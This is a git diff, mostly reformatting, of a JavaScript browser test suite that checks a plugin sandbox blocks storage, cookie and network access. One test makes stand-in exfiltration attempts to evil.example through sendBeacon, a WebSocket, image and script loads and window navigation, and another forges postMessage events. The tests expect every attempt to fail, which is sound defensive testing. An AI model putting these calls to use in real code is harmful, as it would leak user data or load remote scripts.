@@ -27,7 +27,11 @@ async function listener(secure) {
   const seen = [];
   const answer = (request, response) => {
     seen.push({ method: request.method, url: request.url, headers: request.headers });
-    response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'content-type': 'application/json' });
+    response.writeHead(200, {
+      'access-control-allow-origin': '*',
+      'access-control-allow-headers': '*',
+      'content-type': 'application/json',
+    });
     response.end('{"hour":12}');
   };
   const server = secure ? createSecureServer(secure, answer) : createServer(answer);
@@ -92,7 +96,10 @@ test('code finds the language and nothing of the browser', async () => {
   const tried = await call(page, 'looks', { names: NAMES });
   const has = Object.keys(tried).filter((name) => name.startsWith('has ') || name.startsWith('own '));
   assert.deepEqual(has, []);
-  assert.equal(tried.globals, 'clearTimeout console crypto decodeURI decodeURIComponent encodeURI encodeURIComponent escape fetch globalThis isFinite isNaN parseFloat parseInt queueMicrotask setTimeout storage undefined unescape');
+  assert.equal(
+    tried.globals,
+    'clearTimeout console crypto decodeURI decodeURIComponent encodeURI encodeURIComponent escape fetch globalThis isFinite isNaN parseFloat parseInt queueMicrotask setTimeout storage undefined unescape',
+  );
   for (const name of ['function', 'async function', 'generator']) assert.equal(tried[name], 'threw EvalError', name);
   assert.equal(tried['indirect eval'], 'threw ReferenceError');
   assert.equal(tried['timer with text'], 'threw TypeError');
@@ -157,17 +164,62 @@ test('the wall stands without our names too: a raw worker in the frame, and the 
     await attempt('sessionStorage', () => sessionStorage.length);
     await attempt('cookie', () => document.cookie);
     await attempt('set cookie', () => (document.cookie = 'a=b'));
-    await attempt('indexedDB', () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = resolve; asked.onerror = () => reject(asked.error); }));
+    await attempt(
+      'indexedDB',
+      () =>
+        new Promise((resolve, reject) => {
+          const asked = indexedDB.open('x');
+          asked.onsuccess = resolve;
+          asked.onerror = () => reject(asked.error);
+        }),
+    );
     await attempt('caches', () => caches.keys());
     await attempt('fetch', () => fetch(`${server}/api/me`));
     await attempt('fetch with credentials', () => fetch(`${server}/api/me`, { credentials: 'include', mode: 'no-cors' }));
-    await attempt('beacon', () => { if (!navigator.sendBeacon('https://evil.example/')) throw new TypeError('no'); throw new TypeError('the policy has the last word'); });
-    await attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = resolve; socket.onerror = () => reject(new TypeError('closed')); }));
-    await attempt('picture', () => new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = () => reject(new TypeError('blocked')); image.src = 'https://evil.example/a.png'; }));
-    await attempt('script', () => new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = resolve; script.onerror = () => reject(new TypeError('blocked')); script.src = 'https://evil.example/a.js'; document.head.append(script); }));
-    await attempt('window', () => { const made = window.open('https://evil.example/'); if (made === null) throw new TypeError('blocked'); });
-    await attempt('top', () => { top.location.href = 'https://evil.example/'; });
-    await attempt('alert', () => { if (confirm('x') === false) throw new TypeError('blocked'); });
+    await attempt('beacon', () => {
+      if (!navigator.sendBeacon('https://evil.example/')) throw new TypeError('no');
+      throw new TypeError('the policy has the last word');
+    });
+    await attempt(
+      'socket',
+      () =>
+        new Promise((resolve, reject) => {
+          const socket = new WebSocket('wss://evil.example/');
+          socket.onopen = resolve;
+          socket.onerror = () => reject(new TypeError('closed'));
+        }),
+    );
+    await attempt(
+      'picture',
+      () =>
+        new Promise((resolve, reject) => {
+          const image = new Image();
+          image.onload = resolve;
+          image.onerror = () => reject(new TypeError('blocked'));
+          image.src = 'https://evil.example/a.png';
+        }),
+    );
+    await attempt(
+      'script',
+      () =>
+        new Promise((resolve, reject) => {
+          const script = document.createElement('script');
+          script.onload = resolve;
+          script.onerror = () => reject(new TypeError('blocked'));
+          script.src = 'https://evil.example/a.js';
+          document.head.append(script);
+        }),
+    );
+    await attempt('window', () => {
+      const made = window.open('https://evil.example/');
+      if (made === null) throw new TypeError('blocked');
+    });
+    await attempt('top', () => {
+      top.location.href = 'https://evil.example/';
+    });
+    await attempt('alert', () => {
+      if (confirm('x') === false) throw new TypeError('blocked');
+    });
     const raw = `
       const tried = {};
       const attempt = async (name, work) => { try { tried[name] = 'got ' + String(await work()).slice(0, 100); } catch (error) { tried[name] = 'threw ' + error.name; } };
@@ -186,7 +238,8 @@ test('the wall stands without our names too: a raw worker in the frame, and the 
     return { tried, inWorker, origin: self.origin };
   }, url);
   assert.equal(tried.origin, 'null');
-  for (const [name, outcome] of Object.entries({ ...tried.tried, ...tried.inWorker })) assert.match(outcome, /^threw/, `${name}: ${outcome}`);
+  for (const [name, outcome] of Object.entries({ ...tried.tried, ...tried.inWorker }))
+    assert.match(outcome, /^threw/, `${name}: ${outcome}`);
   assert.ok(page.url().includes('/console/plugins'), 'still here');
   assert.equal(page.context().pages().length, 1);
 });
@@ -236,7 +289,14 @@ test('results, calls, lines and storage have bounds', async () => {
   assert.match(JSON.stringify(await call(page, 'throws')), /RangeError: as it likes/);
   assert.match(JSON.stringify(await call(page, 'broken')), /SyntaxError/);
   assert.match(JSON.stringify(await call(page, 'rejects')), /nobody waits/);
-  assert.deepEqual(await call(page, 'keeps'), [null, [1, { a: 'ü' }], ['list'], true, false, 'the storage is full (262144 bytes); delete something first']);
+  assert.deepEqual(await call(page, 'keeps'), [
+    null,
+    [1, { a: 'ü' }],
+    ['list'],
+    true,
+    false,
+    'the storage is full (262144 bytes); delete something first',
+  ]);
   assert.equal(await page.evaluate(() => localStorage.getItem('secret')), 'of the page');
   await page.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Plugins' }).click();
   const card = page.getByRole('article', { name: 'throws' });
@@ -281,7 +341,12 @@ test('the process of the sandbox ends, as for want of memory: the call ends, and
     const crashed = new Promise((resolve) => session.once('Target.targetCrashed', resolve));
     void frame.send('Page.crash');
     await crashed;
-    const answer = await until(() => it.model.asked.slice(before).map(({ messages }) => messages.at(-1)).find(({ role }) => role === 'tool'));
+    const answer = await until(() =>
+      it.model.asked
+        .slice(before)
+        .map(({ messages }) => messages.at(-1))
+        .find(({ role }) => role === 'tool'),
+    );
     assert.match(JSON.stringify(answer), /longer than 10 s|could not be started/i);
     // The frame is in a process of its own, which ended; the page went on.
     await until(async () => (await look('document.querySelector("main").innerText')).includes('Done:'));
@@ -301,17 +366,50 @@ test('a declared host is reached, without credentials, and no other', async () =
     return tried;`;
   // The name leads to a server of this test, whose certificate nobody signed.
   const [key, cert] = ['key.pem', 'cert.pem'].map((name) => join(it.dir, name));
-  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-subj', '/CN=api.example.com', '-keyout', key, '-out', cert], { stdio: 'ignore' });
+  execFileSync(
+    'openssl',
+    [
+      'req',
+      '-x509',
+      '-newkey',
+      'ec',
+      '-pkeyopt',
+      'ec_paramgen_curve:prime256v1',
+      '-nodes',
+      '-subj',
+      '/CN=api.example.com',
+      '-keyout',
+      key,
+      '-out',
+      cert,
+    ],
+    { stdio: 'ignore' },
+  );
   const host = await listener({ key: readFileSync(key), cert: readFileSync(cert) });
-  const own = await launch(`--host-resolver-rules=MAP *.example.com 127.0.0.1:${host.port}, MAP *.example 127.0.0.1:${host.port}`, '--ignore-certificate-errors');
+  const own = await launch(
+    `--host-resolver-rules=MAP *.example.com 127.0.0.1:${host.port}, MAP *.example 127.0.0.1:${host.port}`,
+    '--ignore-certificate-errors',
+  );
   try {
     const page = await withCode({ fetches: code }, { network: ['api.example.com'] }, own);
-    assert.deepEqual(await call(page, 'fetches'), [true, 200, 'application/json', { hour: 12 }, 'refused', 'refused', 'refused', 'refused']);
+    assert.deepEqual(await call(page, 'fetches'), [
+      true,
+      200,
+      'application/json',
+      { hour: 12 },
+      'refused',
+      'refused',
+      'refused',
+      'refused',
+    ]);
   } finally {
     await own.close();
     host.close();
   }
-  assert.ok(host.seen.every(({ headers, url: path }) => headers.host === 'api.example.com' && path === '/time?x=1'), JSON.stringify(host.seen));
+  assert.ok(
+    host.seen.every(({ headers, url: path }) => headers.host === 'api.example.com' && path === '/time?x=1'),
+    JSON.stringify(host.seen),
+  );
   const { headers } = host.seen.find(({ method }) => method === 'POST');
   assert.deepEqual([headers.cookie, headers.referer, headers['x-key']], [undefined, undefined, 'k']);
 });
@@ -326,10 +424,12 @@ test('messages of others are not believed', async () => {
     other.title = 'Other';
     other.src = '/sandbox/frame';
     document.body.append(other);
-    const spy = (event) => event.data?.toolyard === 'sandbox' && event.source === other.contentWindow && window.leaked.push(event.data.kind);
+    const spy = (event) =>
+      event.data?.toolyard === 'sandbox' && event.source === other.contentWindow && window.leaked.push(event.data.kind);
     window.addEventListener('message', spy);
     window.forging = setInterval(() => {
-      for (const id of [undefined, '', 'x', crypto.randomUUID()]) window.postMessage({ toolyard: 'sandbox', kind: 'done', id, json: '"forged"', logs: [] }, '*');
+      for (const id of [undefined, '', 'x', crypto.randomUUID()])
+        window.postMessage({ toolyard: 'sandbox', kind: 'done', id, json: '"forged"', logs: [] }, '*');
     }, 20);
   });
   assert.equal(await call(page, 'slow'), 'mine');
